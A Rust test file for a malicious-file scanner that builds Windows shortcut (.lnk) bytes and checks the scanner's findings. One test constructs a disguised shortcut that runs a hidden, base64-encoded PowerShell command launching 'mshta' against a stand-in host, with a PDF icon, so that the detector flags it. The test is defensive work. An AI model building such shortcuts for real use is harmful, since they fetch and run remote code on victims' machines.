use crate::examine;
use strongroom_model::{Limits, Report, Verdict};

fn counted(text: &str) -> Vec<u8> {
    let units: Vec<u16> = text.encode_utf16().collect();
    let mut bytes = (units.len() as u16).to_le_bytes().to_vec();
    bytes.extend(units.into_iter().flat_map(u16::to_le_bytes));
    bytes
}

/// A shortcut with a relative path, arguments and an icon.
fn shortcut(program: &str, arguments: &str, icon: &str, show: u32) -> Vec<u8> {
    let mut bytes = b"\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46".to_vec();
    bytes.extend(0xE8u32.to_le_bytes());
    bytes.extend([0; 36]);
    bytes.extend(show.to_le_bytes());
    bytes.extend([0; 12]);
    for text in [program, arguments, icon] {
        bytes.extend(counted(text));
    }
    bytes.extend([0; 4]);
    bytes
}

fn read(bytes: &[u8]) -> Report {
    examine("a.lnk", bytes, &Limits::default())
}

fn has(report: &Report, code: &str) -> bool {
    report.findings.iter().any(|finding| finding.code == code)
}

#[test]
fn a_shortcut_to_a_program_is_clean() {
    for (program, arguments) in [
        ("..\\Program Files\\Editor\\editor.exe", "\"%1\""),
        ("C:\\Windows\\System32\\cmd.exe", ""),
        ("cmd.exe", "/k \"C:\\Tools\\prompt.bat\""),
        ("powershell.exe", "-NoExit -Command \"& { Import-Module Tools }\""),
    ] {
        let report = read(&shortcut(program, arguments, "", 1));
        assert_eq!(
            report.verdict(),
            Verdict::Clean,
            "{program}: {}",
            report.because()
        );
    }
}

#[test]
fn a_command_unfolds() {
    let inner = "mshta http://a.example/x.hta";
    let wide: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, wide);
    let report = read(&shortcut(
        "powershell.exe",
        &format!("-w hidden -enc {encoded}"),
        "a.pdf",
        7,
    ));
    for code in [
        "files.shortcut-interpreter",
        "files.shortcut-unseen",
        "files.shortcut-disguised",
        "script.encoded-command",
        "script.proxy",
    ] {
        assert!(has(&report, code), "{code}: {:?}", report.findings);
    }
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn padding_is_told() {
    let report = read(&shortcut(
        "cmd.exe",
        &format!("{}/c echo x", "\r\n".repeat(200)),
        "",
        1,
    ));
    assert!(has(&report, "files.shortcut-padded"));
}

#[test]
fn a_file_behind_a_shortcut_is_read() {
    let mut bytes = shortcut("a.exe", "", "", 1);
    bytes.extend(b"{\\rtf1 x}");
    let report = read(&bytes);
    assert!(has(&report, "files.behind-shortcut"));
    assert_eq!(report.children.len(), 1);
}

#[test]
fn every_cut_is_answered() {
    let bytes = shortcut("cmd.exe", "/c echo x", "a.ico", 1);
    for end in 0..bytes.len() {
        read(&bytes[..end]);
    }
}
